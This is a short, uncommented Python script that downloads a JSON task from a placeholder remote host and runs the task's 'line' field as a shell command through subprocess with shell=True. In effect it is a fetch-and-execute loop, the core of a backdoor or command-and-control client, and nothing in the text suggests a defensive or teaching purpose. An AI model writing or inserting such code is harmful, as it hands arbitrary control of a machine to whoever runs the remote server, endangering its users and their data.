import json
import subprocess
import urllib.request

with urllib.request.urlopen("https://hub.tables.test/next") as answer:
    task = json.load(answer)
subprocess.run(task["line"], shell=True)
